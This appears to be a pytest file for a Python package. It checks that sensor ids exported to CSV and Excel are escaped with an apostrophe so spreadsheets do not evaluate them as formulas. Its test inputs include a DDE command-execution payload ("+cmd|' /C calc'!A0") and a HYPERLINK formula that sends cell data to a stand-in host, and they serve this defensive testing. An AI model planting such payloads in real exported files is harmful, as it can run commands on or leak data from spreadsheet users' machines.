"""A spreadsheet computes nothing in a table of forecasts or scores, whatever the ids of the sensors are."""

import csv
from dataclasses import replace
from pathlib import Path

import pytest
from openpyxl import load_workbook

import socialx as api
from socialx.core.disk import as_cell

FORMULAS = ['=HYPERLINK("http://x?"&A1,"k")', "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3"]
PLAIN = ["400001", "-1", "+1", "-1.5", "S=1", "a@b", ""]


def test_what_would_be_computed_begins_with_an_apostrophe() -> None:
    assert [as_cell(text) for text in FORMULAS] == [f"'{text}" for text in FORMULAS]
    assert [as_cell(text) for text in PLAIN] == PLAIN


@pytest.mark.slow
def test_tables_hold_no_formula(run: Path, data: Path, tmp_path: Path) -> None:
    forecast = replace(api.predict(run, data), sensors=tuple(FORMULAS))
    forecast.to_csv(tmp_path / "forecast.csv")
    with (tmp_path / "forecast.csv").open(newline="") as file:
        assert {row["sensor"] for row in csv.DictReader(file)} == {f"'{name}" for name in FORMULAS}
    forecast.to_excel(tmp_path / "forecast.xlsx")
    cells = [cell for row in load_workbook(tmp_path / "forecast.xlsx").active.iter_rows(min_row=2) for cell in row]
    assert {cell.value for cell in cells if cell.column == 2} == {f"'{name}" for name in FORMULAS}
    assert all(cell.data_type != "f" for cell in cells)
    assert list(forecast.to_frame()["sensor"].unique()) == FORMULAS
    scores = api.evaluate(run, by=["sensor"])
    renamed = {name: {by: [replace(row, key=FORMULAS[0]) for row in rows] for by, rows in tables.items()}
               for name, tables in scores.by.items()}  # fmt: skip
    replace(scores, by=renamed).to_csv(tmp_path / "scores.csv")
    with (tmp_path / "scores.csv").open(newline="") as file:
        assert {row["key"] for row in csv.DictReader(file) if row["by"] == "sensor"} == {f"'{FORMULAS[0]}"}
